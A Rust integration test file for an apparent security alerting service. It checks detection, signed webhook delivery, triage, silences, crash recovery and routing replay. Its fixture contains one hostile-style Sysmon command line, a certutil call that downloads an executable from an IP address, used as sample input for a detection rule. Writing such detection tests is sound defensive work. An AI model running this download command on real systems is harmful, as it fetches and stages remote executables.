//! The alert path end to end, through the real binary: an event posted to the API becomes a
//! detection, an alert, a notice in the outbox and a signed webhook call; triage through
//! the API reaches the receiver; silences hold notices; a `kill -9` loses nothing queued.

mod common;

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::routing::post;
use common::{Server, eventually, get_json, http};
use serde_json::{Value, json};
use std::path::Path;
use std::sync::atomic::{AtomicU16, Ordering};
use std::sync::{Arc, Mutex};

/// A webhook receiver that answers with `status` and keeps what it got.
struct Receiver {
    status: AtomicU16,
    got: Mutex<Vec<(u16, HeaderMap, Value)>>,
    raw: Mutex<Vec<Bytes>>,
}

impl Receiver {
    /// Bodies it accepted (answered 2xx), in order.
    fn accepted(&self) -> Vec<(HeaderMap, Value)> {
        self.got
            .lock()
            .unwrap()
            .iter()
            .filter(|(s, _, _)| *s < 300)
            .map(|(_, h, b)| (h.clone(), b.clone()))
            .collect()
    }

    fn kinds(&self) -> Vec<String> {
        self.accepted()
            .iter()
            .map(|(_, b)| b["kind"]["type"].as_str().unwrap_or("").to_string())
            .collect()
    }
}

async fn hook(State(r): State<Arc<Receiver>>, headers: HeaderMap, body: Bytes) -> StatusCode {
    let status = r.status.load(Ordering::SeqCst);
    let json = serde_json::from_slice(&body).unwrap_or(Value::Null);
    r.got.lock().unwrap().push((status, headers, json));
    r.raw.lock().unwrap().push(body);
    StatusCode::from_u16(status).unwrap()
}

async fn receiver(status: u16) -> (String, Arc<Receiver>) {
    let r = Arc::new(Receiver {
        status: AtomicU16::new(status),
        got: Mutex::new(Vec::new()),
        raw: Mutex::new(Vec::new()),
    });
    let app = Router::new()
        .route("/hook", post(hook))
        .with_state(Arc::clone(&r));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (format!("http://{addr}/hook"), r)
}

/// A configuration with one signed webhook channel and no batching delay.
fn config(dir: &Path, hook_url: &str) -> String {
    let path = dir.join("watchpost.toml");
    std::fs::write(
        &path,
        format!(
            r#"
[alerting]
resolve_timeout_seconds = 0
[alerting.route]
receiver = "ops"
group_by = ["..."]
group_wait_seconds = 0
group_interval_seconds = 1
[[alerting.channels]]
name = "ops"
type = "webhook"
url = "{hook_url}"
secret = "s3cret"
"#
        ),
    )
    .unwrap();
    path.display().to_string()
}

/// A Sysmon process creation that the built-in rules flag (certutil downloading).
fn certutil_event(host: &str) -> Value {
    json!([{"host": {"name": host}, "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1,
        "event_data": {"Image": "C:\\Windows\\System32\\certutil.exe",
                       "CommandLine": "certutil -urlcache -f http://203.0.113.5/a.exe a.exe"}}}])
}

async fn post_events(server: &Server, body: &Value) {
    let status = http()
        .post(server.url("/api/v1/events"))
        .json(body)
        .send()
        .await
        .unwrap()
        .status();
    assert_eq!(status, 200);
}

async fn only_alert(server: &Server) -> Value {
    let page = get_json(&http(), server.url("/api/v1/alerts")).await;
    let items = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 1, "{page}");
    items[0].clone()
}

fn openssl_hmac(secret: &str, data: &[u8]) -> String {
    let path = std::env::temp_dir().join(format!("wp-hmac-{}", std::process::id()));
    std::fs::write(&path, data).unwrap();
    let out = std::process::Command::new("openssl")
        .args(["dgst", "-sha256", "-hmac", secret, "-r"])
        .arg(&path)
        .output()
        .unwrap();
    std::fs::remove_file(&path).unwrap();
    String::from_utf8(out.stdout)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_string()
}

#[tokio::test]
async fn an_event_pages_through_a_signed_webhook_and_triage_reaches_the_receiver() {
    let dir = tempfile::tempdir().unwrap();
    let (url, hook) = receiver(200).await;
    let server = Server::start_with(dir.path(), &["--config", &config(dir.path(), &url)]);
    post_events(&server, &certutil_event("ws-1")).await;
    eventually("the firing notice arrives", || async {
        hook.kinds() == ["firing"]
    })
    .await;

    let (headers, body) = hook.accepted().remove(0);
    assert_eq!(body["alerts"][0]["title"], "Certutil Download or Decode");
    assert_eq!(body["alerts"][0]["host"], "ws-1");
    let alert = only_alert(&server).await;
    assert_eq!(alert["status"], "firing");
    assert_eq!(body["alerts"][0]["id"], alert["id"]);
    assert_eq!(headers["idempotency-key"], body["id"].as_str().unwrap());
    // Check the signature as a receiver would: HMAC-SHA256 over "{timestamp}.{raw body}",
    // recomputed with an independent tool.
    let sig = headers["x-watchpost-signature"].to_str().unwrap();
    let ts = headers["x-watchpost-timestamp"].to_str().unwrap();
    let mut signed = format!("{ts}.").into_bytes();
    signed.extend_from_slice(&hook.raw.lock().unwrap()[0]);
    assert_eq!(sig, format!("v1={}", openssl_hmac("s3cret", &signed)));
    assert_ne!(sig, format!("v1={}", openssl_hmac("wrong", &signed)));

    // The alert's page: its detections and the events they matched.
    let id = alert["id"].as_str().unwrap();
    let detail = get_json(&http(), server.url(&format!("/api/v1/alerts/{id}"))).await;
    assert_eq!(detail["alert"]["id"], alert["id"]);
    assert_eq!(
        detail["detections"][0]["rule_title"],
        "Certutil Download or Decode"
    );
    let event_id = &detail["detections"][0]["event_ids"][0];
    assert_eq!(detail["events"][0]["event"]["id"], *event_id, "{detail}");
    assert!(detail["trace"].is_array() && detail["notifications"].is_array());

    // The explanation: route, group, notice, and the delivery attempt.
    let why = get_json(
        &http(),
        server.url(&format!("/api/v1/alerts/{id}/notifications")),
    )
    .await;
    let stages: Vec<&str> = why["trace"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["stage"].as_str().unwrap())
        .collect();
    assert_eq!(stages, ["route", "group", "notify"], "{why}");
    assert_eq!(why["notifications"][0]["status"], "sent");
    assert_eq!(
        why["notifications"][0]["attempts_made"][0]["channel"],
        "ops (webhook)"
    );

    // Acknowledge, then resolve, through the API: the receiver hears both.
    let put = |status: &'static str| {
        let url = server.url(&format!("/api/v1/alerts/{id}/status"));
        async move {
            http()
                .put(url)
                .json(&json!({"status": status, "by": "ana", "reason": "looking"}))
                .send()
                .await
                .unwrap()
        }
    };
    assert_eq!(put("acknowledged").await.status(), 200);
    eventually("the acknowledgement arrives", || async {
        hook.kinds() == ["firing", "acknowledged"]
    })
    .await;
    assert_eq!(put("resolved").await.status(), 200);
    eventually("the resolved notice arrives", || async {
        hook.kinds() == ["firing", "acknowledged", "resolved"]
    })
    .await;
    let alert = only_alert(&server).await;
    assert_eq!(alert["status"], "resolved");
    let history: Vec<(&str, &str)> = alert["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["to"].as_str().unwrap(), c["by"].as_str().unwrap()))
        .collect();
    // The actor is the calling key (here: authentication is off); the body's `by` is a note.
    let actor = "anonymous (authentication off)";
    assert_eq!(history, [("acknowledged", actor), ("resolved", actor)]);
    assert!(
        alert["history"][0]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("ana"))
    );

    // The same explanation on the command line, read from the store.
    let cfg = dir.path().join("watchpost.toml").display().to_string();
    let out = common::run(dir.path(), &["--config", &cfg, "alerts", "explain", id]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    for expected in [
        "firing → acknowledged by anonymous (authentication off): looking (noted as done for ana)",
        "route",
        "notify",
        "ops (webhook)",
        "sent",
    ] {
        assert!(
            text.contains(expected),
            "`{expected}` missing from:\n{text}"
        );
    }
    let out = common::run(
        dir.path(),
        &["--config", &cfg, "alerts", "list", "--status", "resolved"],
    );
    assert!(String::from_utf8(out.stdout).unwrap().contains(id));

    let bad = put("closed").await;
    assert_eq!(bad.status(), 400);
    let err: Value = bad.json().await.unwrap();
    assert_eq!(err["error"]["details"]["parameter"], "status");

    // Bulk: a reopen of this alert and of an unknown one; a malformed id changes nothing.
    let bulk = |body: Value| {
        let url = server.url("/api/v1/alerts/bulk");
        async move { http().post(url).json(&body).send().await.unwrap() }
    };
    let refused = bulk(json!({"ids": [id, "nope"], "status": "firing"})).await;
    assert_eq!(refused.status(), 400);
    let err: Value = refused.json().await.unwrap();
    assert_eq!(err["error"]["details"]["parameter"], "ids[1]");
    assert_eq!(only_alert(&server).await["status"], "resolved");
    let unknown = uuid::Uuid::now_v7().to_string();
    let done: Value = bulk(json!({"ids": [id, unknown], "status": "firing", "by": "ana"}))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(done["updated"], 1);
    assert_eq!(done["results"][0]["status"], "firing");
    assert_eq!(done["results"][1]["error"], "not_found");
    assert_eq!(only_alert(&server).await["status"], "firing");
}

#[tokio::test]
async fn a_silence_holds_the_notice_and_says_so_in_the_trace() {
    let dir = tempfile::tempdir().unwrap();
    let (url, hook) = receiver(200).await;
    let server = Server::start_with(dir.path(), &["--config", &config(dir.path(), &url)]);
    let created = http()
        .post(server.url("/api/v1/silences"))
        .json(
            &json!({"matchers": ["host=\"ws-9\""], "duration_minutes": 60,
                      "created_by": "ana", "comment": "reimaging ws-9, CHG-7"}),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(created.status(), 201);
    let refused = http()
        .post(server.url("/api/v1/silences"))
        .json(&json!({"matchers": [], "duration_minutes": 60, "created_by": "ana", "comment": "x"}))
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), 400);

    post_events(&server, &certutil_event("ws-9")).await;
    eventually("the alert exists", || async {
        get_json(&http(), server.url("/api/v1/alerts")).await["items"]
            .as_array()
            .is_some_and(|a| !a.is_empty())
    })
    .await;
    let id = only_alert(&server).await["id"]
        .as_str()
        .unwrap()
        .to_string();
    eventually("the silence verdict is recorded", || async {
        let why = get_json(
            &http(),
            server.url(&format!("/api/v1/alerts/{id}/notifications")),
        )
        .await;
        why["trace"].as_array().unwrap().iter().any(|e| {
            e["stage"] == "silence"
                && e["verdict"] == "suppressed"
                && e["detail"].as_str().unwrap().contains("CHG-7")
        })
    })
    .await;
    assert!(hook.accepted().is_empty());
}

#[tokio::test]
async fn a_notice_queued_when_the_server_is_killed_is_delivered_after_the_restart() {
    let dir = tempfile::tempdir().unwrap();
    let (url, hook) = receiver(503).await;
    let cfg = config(dir.path(), &url);
    let mut server = Server::start_with(dir.path(), &["--config", &cfg]);
    post_events(&server, &certutil_event("ws-2")).await;
    eventually("the receiver refused a first attempt", || async {
        !hook.got.lock().unwrap().is_empty()
    })
    .await;
    server.child.kill().unwrap(); // SIGKILL: no graceful shutdown
    server.child.wait().unwrap();
    hook.status.store(200, Ordering::SeqCst);

    let server = Server::start_with(dir.path(), &["--config", &cfg]);
    eventually(
        "the queued notice is delivered after the restart",
        || async { hook.kinds() == ["firing"] },
    )
    .await;
    let keys: Vec<String> = hook
        .got
        .lock()
        .unwrap()
        .iter()
        .map(|(_, h, _)| h["idempotency-key"].to_str().unwrap().to_string())
        .collect();
    assert!(
        keys.iter().all(|k| k == &keys[0]),
        "one notice, retried: {keys:?}"
    );
    // The restored alert is not announced a second time.
    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
    assert_eq!(hook.kinds(), ["firing"]);
    assert_eq!(only_alert(&server).await["status"], "firing");
}

#[tokio::test]
async fn replay_shows_what_a_proposed_routing_would_have_sent_against_what_was_sent() {
    let dir = tempfile::tempdir().unwrap();
    let (url, hook) = receiver(200).await;
    let current = config(dir.path(), &url);
    {
        let server = Server::start_with(dir.path(), &["--config", &current]);
        post_events(&server, &certutil_event("web-1")).await;
        post_events(&server, &certutil_event("ws-2")).await;
        eventually("both hosts' alerts reached ops", || async {
            hook.kinds().iter().filter(|k| *k == "firing").count() == 2
        })
        .await;
    }
    // The proposal: workstations page `desk` instead; web servers stay with ops.
    let proposed = dir.path().join("proposed.toml");
    std::fs::write(
        &proposed,
        format!(
            r#"
[alerting]
resolve_timeout_seconds = 0
[alerting.route]
receiver = "ops"
group_by = ["..."]
group_wait_seconds = 0
[[alerting.route.routes]]
matchers = ['host=~"ws-.*"']
receiver = "desk"
[[alerting.channels]]
name = "ops"
type = "webhook"
url = "{url}"
[[alerting.channels]]
name = "desk"
type = "webhook"
url = "{url}"
"#
        ),
    )
    .unwrap();
    let proposed = proposed.display().to_string();
    let out = common::run(
        dir.path(),
        &[
            "--config", &proposed, "alerts", "replay", "--since", "1h", "--json",
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["detections"], 2, "{report}");
    assert_eq!(report["receivers"]["ops"]["sent"]["firing"], 2, "{report}");
    assert_eq!(
        report["receivers"]["ops"]["would_send"]["firing"], 1,
        "{report}"
    );
    assert_eq!(
        report["receivers"]["desk"]["would_send"]["firing"], 1,
        "{report}"
    );
    let differences = report["differences"].as_array().unwrap();
    assert_eq!(differences.len(), 1, "{report}");
    assert_eq!(differences[0]["host"], "ws-2");
    assert_eq!(differences[0]["was_told"], json!(["ops"]));
    assert_eq!(differences[0]["would_tell"], json!(["desk"]));

    let text = common::run(
        dir.path(),
        &["--config", &proposed, "alerts", "replay", "--since", "1h"],
    );
    let text = String::from_utf8(text.stdout).unwrap();
    assert!(text.contains("was told ops → would tell desk"), "{text}");
    assert!(hook.kinds().len() == 2, "a replay sends nothing");
}

#[tokio::test]
async fn the_cli_acknowledges_and_silences_through_the_running_server() {
    let dir = tempfile::tempdir().unwrap();
    let (url, hook) = receiver(200).await;
    let cfg = config(dir.path(), &url);
    let server = Server::start_with(dir.path(), &["--config", &cfg]);
    let base = server.url("");
    let base = base.trim_end_matches('/');
    let cli = |args: &[&str]| {
        let mut all = vec!["--config", &cfg, "alerts"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--server", base]);
        let out = common::run(dir.path(), &all);
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).to_string()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };

    post_events(&server, &certutil_event("web-1")).await;
    eventually("the firing notice", || async { hook.kinds() == ["firing"] }).await;
    let id = only_alert(&server).await["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (ok, said) = cli(&["ack", &id, "--by", "ana", "--reason", "on it"]);
    assert!(ok && said.contains("is acknowledged"), "{said}");
    eventually("the acknowledged notice", || async {
        hook.kinds() == ["firing", "acknowledged"]
    })
    .await;
    let alert = only_alert(&server).await;
    let last = alert["history"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["by"], "anonymous (authentication off)");
    assert_eq!(last["reason"], "on it (noted as done for ana)");

    let list = |args: &[&str]| {
        let mut all = vec!["--config", &cfg, "alerts", "list"];
        all.extend_from_slice(args);
        String::from_utf8(common::run(dir.path(), &all).stdout).unwrap()
    };
    assert!(list(&["--host", "web-1", "--status", "acknowledged"]).contains(&id));
    assert!(!list(&["--host", "web-2"]).contains(&id));
    assert!(!list(&["--min-severity", "critical"]).contains(&id));

    let (ok, said) = cli(&["ack", "not-an-id"]);
    assert!(!ok && said.contains("HTTP 400"), "{said}");
    // Several ids go in one bulk request; an unknown one is reported and fails the command.
    let unknown = "01900000-0000-7000-8000-000000000000";
    let (ok, said) = cli(&["resolve", &id, unknown, "--reason", "done"]);
    assert!(!ok, "{said}");
    assert!(said.contains(&format!("{id} is resolved")), "{said}");
    assert!(said.contains(&format!("{unknown}: not_found")), "{said}");

    let (ok, said) = cli(&[
        "silence",
        "add",
        "--matcher",
        "host=\"ws-9\"",
        "--minutes",
        "30",
        "--comment",
        "reimaging, CHG-1",
    ]);
    assert!(ok && said.starts_with("silence "), "{said}");
    let silence_id = said.split_whitespace().nth(1).unwrap().to_string();
    let (ok, listed) = cli(&["silence", "list"]);
    assert!(
        ok && listed.contains(&silence_id) && listed.contains("active"),
        "{listed}"
    );
    assert!(listed.contains("reimaging, CHG-1"), "{listed}");
    let (ok, said) = cli(&["silence", "expire", &silence_id]);
    assert!(ok, "{said}");
    let (_, listed) = cli(&["silence", "list"]);
    assert!(!listed.contains(&silence_id), "{listed}");
    let (_, listed) = cli(&["silence", "list", "--all"]);
    assert!(
        listed.contains(&silence_id) && listed.contains("expired"),
        "{listed}"
    );
}
